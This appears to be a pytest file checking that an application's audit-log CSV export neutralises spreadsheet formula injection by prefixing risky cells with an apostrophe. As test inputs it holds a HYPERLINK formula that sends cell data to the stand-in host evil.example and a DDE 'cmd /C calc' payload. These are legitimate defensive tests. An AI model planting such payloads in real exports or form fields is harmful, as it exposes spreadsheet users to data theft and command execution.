"""The audit's CSV export is safe to open in a spreadsheet: every cell that a spreadsheet
would read as a formula (OWASP "CSV injection") is written as text."""

from __future__ import annotations

import csv
import io

import pytest

from standby.accounts import repository
from standby.accounts.records import AuditEvent
from standby.web.audit import spreadsheet_safe
from support.web_site import Site, login

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


IDS = ["eq", "plus", "minus", "at", "tab", "cr"]


@pytest.mark.parametrize("start", FORMULA_STARTS[:4], ids=IDS[:4])
def test_a_username_typed_as_a_formula_is_exported_as_text(mini_site: Site, start: str) -> None:
    # the login form strips surrounding blanks, so tab and CR cannot start a typed username
    typed = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    login(mini_site.client(), typed, "wrong password")
    r = mini_site.login("admin.a").get("/admin/audit.csv?action=login-failed")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.text, newline="")))
    header, lines = rows[0], rows[1:]
    assert len(lines) == 1
    cell = lines[0][header.index("username")]
    assert cell == "'" + typed
    for value in lines[0]:
        assert value[:1] not in FORMULA_STARTS, value


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=IDS)
def test_every_cell_of_the_export_is_neutralised(mini_site: Site, start: str) -> None:
    text = f"{start}cmd|' /C calc'!A0"
    repository.append_audit(
        mini_site.store,
        AuditEvent("2026-11-30T01:00:00.000000Z", text, text, "view", None, text, text, text),
    )
    r = mini_site.login("admin.a").get("/admin/audit.csv?action=view")
    rows = list(csv.reader(io.StringIO(r.text, newline="")))
    header, line = rows[0], rows[1]
    for col in ("username", "role", "page", "address", "detail"):
        assert line[header.index(col)] == "'" + text, col


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=IDS)
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert spreadsheet_safe(start + "1+1") == "'" + start + "1+1"


def test_plain_cells_are_left_alone() -> None:
    assert spreadsheet_safe("nurse.a") == "nurse.a"
    assert spreadsheet_safe("") == ""
    assert spreadsheet_safe("2026-11-30T01:00:00.000000Z") == "2026-11-30T01:00:00.000000Z"
